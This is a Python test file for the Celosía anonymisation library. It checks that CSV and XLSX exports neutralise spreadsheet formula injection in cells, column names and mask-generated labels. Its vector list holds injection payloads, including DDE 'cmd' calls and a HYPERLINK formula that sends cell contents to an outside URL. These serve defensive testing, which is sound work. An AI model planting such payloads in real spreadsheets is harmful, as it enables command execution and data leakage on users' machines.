"""Attack A24: no cell, name or label that Celosía writes is a formula to a spreadsheet, and true numbers stay."""

from __future__ import annotations

import csv
import re
from pathlib import Path
from typing import Any

import openpyxl
import polars as pl
import pytest

import celosia as cl
from celosia.data import io

VECTORS = [
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "-2+3",
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    "+34 600-CALL",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1",
    "\tx",
    "\r=1",
    "\r\n=1",
    " =1",
    "\xa0=1",
    "\u3000＝1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    '"=1"',
    '"\t=1',
    "'=1",
    "'' =1",
    "' \"@x",
    "-5-3",
    "--5",
    "=",
    "@",
]
HARMLESS = ["-5", "+3", "-3.5", "-1e5", "5", "|x", "a=1", "<6", ">=90", "[-5, 3]", "*", "Ana", "'x", "ñ=", "10XXXX"]
FORMATS = ["csv", "csv-es", "xlsx"]

_NUMBER = re.compile(r"[+-]?([0-9]+([.,][0-9]*)?|[.,][0-9]+)([eE][+-]?[0-9]+)?")


def would_run(text: str) -> bool:
    """Whether a spreadsheet might take a text for a formula, told as the attack is worded: by how it begins."""
    if text.startswith(("\t", "\r")):
        return True
    bare = text.strip().lstrip('"').strip()
    return bare.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")) and _NUMBER.fullmatch(bare) is None


def seen(path: Path, format: str) -> tuple[list[str], list[list[Any]]]:
    """Return names and cells as a spreadsheet gets them; of a workbook that none of them is a formula."""
    if format != "xlsx":
        with open(path, encoding="utf-8-sig", newline="") as file:
            names, *rows = csv.reader(file, delimiter=";" if format == "csv-es" else ",")
        return names, [list(row) for row in rows]
    sheet = openpyxl.load_workbook(path)["data"]
    cells = [list(row) for row in sheet.iter_rows()]
    assert {cell.data_type for row in cells for cell in row} <= {"s", "n", "b"}, "no cell is a formula"
    assert not any(cell.hyperlink for row in cells for cell in row)
    found = [[cell.value for cell in row] for row in cells]
    return [str(name) for name in found[0]], found[1:]


def check_none_runs(path: Path, format: str) -> None:
    names, rows = seen(path, format)
    texts = [cell for cell in (*names, *(cell for row in rows for cell in row)) if isinstance(cell, str)]
    assert [text for text in texts if would_run(text)] == []


def file_of(folder: Path, format: str) -> Path:
    return folder / f"data.{format.removesuffix('-es')}"


def test_the_check_would_find_them(tmp_path: Path) -> None:
    """Every vector runs where nobody neutralises it: the tests here can fail."""
    assert [text for text in VECTORS if not would_run(text) and not text.startswith("'")] == []
    assert not any(map(would_run, HARMLESS))
    book = openpyxl.Workbook()
    book.active.title = "data"
    book.active.append(["name"])
    book.active.append(["=1+1"])
    book.save(tmp_path / "data.xlsx")
    with pytest.raises(AssertionError, match="formula"):
        seen(tmp_path / "data.xlsx", "xlsx")


@pytest.mark.parametrize("format", FORMATS)
def test_vectors_in_cells_and_names_are_neutralised_and_come_back(tmp_path: Path, format: str) -> None:
    cells = [*VECTORS, *HARMLESS]
    frame = pl.DataFrame({f"{text} {place}": cells for place, text in enumerate(VECTORS)} | {"plain": cells})
    path = file_of(tmp_path, format)
    io.write(frame, path, format=format)
    check_none_runs(path, format)
    names, rows = seen(path, format)
    assert all(name.startswith("'") for name in names[:-1])
    written = [row[-1] for row in rows]
    if format != "xlsx":  # where openpyxl turns line ends of its own accord
        assert written == [f"'{text}" for text in VECTORS] + HARMLESS
    back = io.restored(io.read(path).frame)
    assert back["plain"].to_list() == cells
    assert back.columns == frame.columns


def hostile() -> pl.DataFrame:
    """A table as it passes through masks: Celosía trims cells, which brings what stood behind blanks to the front."""
    n_rows = len(VECTORS)
    return pl.DataFrame(
        {
            "text": VECTORS,
            "=cmd|' /C calc'!A0": [f"x{row}" for row in range(n_rows)],
            "＠group": [("=A", "+B")[row % 2] for row in range(n_rows)],
            "-5": list(range(-5, n_rows - 5)),
            "loss": ["-5", "-3.5", *["7"] * (n_rows - 2)],
        }
    )


@pytest.mark.parametrize("format", FORMATS)
def test_masked_tables(tmp_path: Path, format: str) -> None:
    result = cl.mask(hostile(), cl.Swap(column="＠group"), seed=1)
    path = file_of(tmp_path, format)
    result.write(path, format=format)
    check_none_runs(path, format)
    names, rows = seen(path, format)
    assert names == ["text", "'=cmd|' /C calc'!A0", "'＠group", "-5", "loss"]
    numbers = [row[3] for row in rows]
    assert numbers == (
        list(range(-5, len(rows) - 5)) if format == "xlsx" else [str(n) for n in range(-5, len(rows) - 5)]
    )
    spelt = {"csv": ["-5", "-3.5"], "csv-es": ["-5", "-3,5"], "xlsx": [-5, -3.5]}[format]
    assert [row[4] for row in rows][:2] == spelt, "numbers in a text column are no formulas"
    back = io.restored(io.read(path).frame)
    assert back["text"].to_list() == [text.strip() for text in VECTORS]
    assert back.columns == hostile().columns


LABELS: dict[str, tuple[Any, str, set[str]]] = {
    "ranges": (cl.Generalise(column="n", ranges=["<-5", "-5-3", "4-6", ">6"]), "n", {"<-5", "'-5-3", "4-6", ">6"}),
    "mapping": (
        cl.Generalise(column="job", mapping={"cook": "=1+1", "nurse": "@SUM(A1)", "judge": "－2"}),
        "job",
        {"'=1+1", "'@SUM(A1)", "'－2"},
    ),
    "tree": (
        cl.Generalise(column="job", tree=[["cook", "=food", "*"], ["nurse", "+care", "*"], ["judge", "-law", "*"]]),
        "job",
        {"'=food", "'+care", "'-law"},
    ),
    "prefix": (cl.Generalise(column="code", prefix=1), "code", {"'-****", "'=****", "'+****"}),
    "symbol =": (cl.MaskCharacters(column="job", symbol="="), "job", {"'====", "'====="}),
    "symbol @": (cl.MaskCharacters(column="job", symbol="@", length=3), "job", {"'@@@"}),
    "symbol -": (cl.MaskCharacters(column="job", keep_last=1, symbol="-"), "job", {"'---k", "'----e"}),
    "symbol ＋": (cl.MaskCharacters(column="job", keep_last=1, symbol="＋"), "job", {"'＋＋＋k", "'＋＋＋＋e"}),
    "what stays visible": (cl.MaskCharacters(column="code", keep_first=1), "code", {"'-****", "'=****", "'+****"}),
    "what hides nothing": (cl.MaskCharacters(column="job", symbol="*"), "job", {"****", "*****"}),
    "blank": (cl.Blank(column="job", values=["cook"], symbol="="), "job", {"'=", "nurse", "judge"}),
    "top code": (cl.TopCode(column="n", at=-7, label="=top"), "n", {"'=top", "-8", "-9"}),
    "derived": (
        cl.Derive(column="made", expression='if_(n > 0, "=1+1", "+x")'),
        "made",
        {"'=1+1", "'+x"},
    ),
    "derived name": (cl.Derive(column="=made", expression="n + 1"), "'=made", {str(n) for n in range(-8, 12)}),
    "derived numbers": (cl.Derive(column="made", expression="0 - n"), "made", {str(n) for n in range(-10, 10)}),
    "pram": (
        cl.Pram(column="job", matrix={job: {"=1": 1} for job in ("cook", "nurse", "judge", "=1")}),
        "job",
        {"'=1"},
    ),
}


def jobs() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "n": list(range(-9, 11)),
            "job": [("cook", "nurse", "judge")[row % 3] for row in range(20)],
            "code": [("-1234", "=1234", "+abcd")[row % 3] for row in range(20)],
        }
    )


@pytest.mark.parametrize("format", FORMATS)
@pytest.mark.parametrize("label", LABELS)
def test_labels_that_masks_make(tmp_path: Path, format: str, label: str) -> None:
    mask, name, expected = LABELS[label]
    path = file_of(tmp_path, format)
    cl.mask(jobs(), mask, seed=1).write(path, format=format)
    check_none_runs(path, format)
    names, rows = seen(path, format)
    assert {str(row[names.index(name)]) for row in rows} - {"9", "10", "-9"} == expected - {"9", "10", "-9"}


@pytest.mark.parametrize("style", ["dash", "bracket"])
@pytest.mark.parametrize("format", FORMATS)
def test_a_release(tmp_path: Path, format: Any, style: Any) -> None:
    """Ranges that begin with a minus, labels of trees, headers and kept cells, which the verifier reads back."""
    tree = cl.Tree([["cook", "=food", "*"], ["nurse", "=food", "*"], ["judge", "@law", "*"]])
    frame = pl.DataFrame(
        {
            "n": range(-9, 11),
            "@job": [*["cook", "nurse"] * 5, *["judge"] * 10],
            "code": ["-1234", "=1234"] * 10,
            "note": VECTORS[:20],
            "t": ["-5"] * 20,
        }
    )
    schema = cl.Schema(quasi_identifiers={"n": "number", "@job": tree}, insensitive=["code", "note", "t"])
    release = cl.Plan(models=[cl.KAnonymity(8)], range_style=style, seed=3, algorithm=cl.Mondrian()).run(
        cl.Table(frame, schema)
    )
    release.write(tmp_path / "release", format=format)
    path = file_of(tmp_path / "release", format)
    check_none_runs(path, format)
    names, rows = seen(path, format)
    assert names == ["n", "'@job", "code", "note", "t"]
    assert "'=food" in {row[1] for row in rows}
    assert {row[4] for row in rows} == ({-5} if format == "xlsx" else {"-5"})
    if style == "dash":
        below_zero = [text for text in release.rows["n"] if text.startswith("-")]
        assert below_zero
        assert {f"'{text}" for text in below_zero} <= {row[0] for row in rows}
    back = io.restored(io.read(path).frame)
    commas = pl.col("n").str.replace(";", ",")  # with decimal commas ranges have semicolons
    assert back.with_columns(commas).rows() == release.rows.rows()


def test_other_formats_hold_every_text_as_it_is(tmp_path: Path) -> None:
    """Typed files run nothing, so that nothing is put in front."""
    kept = [text for text in VECTORS if text.strip() == text]
    for format in ("parquet", "arrow", "sav", "dta", "xpt"):
        io.write(pl.DataFrame({"text": kept}), tmp_path / f"data.{format}", format=format)
        assert io.read(tmp_path / f"data.{format}").frame["text"].to_list() == kept
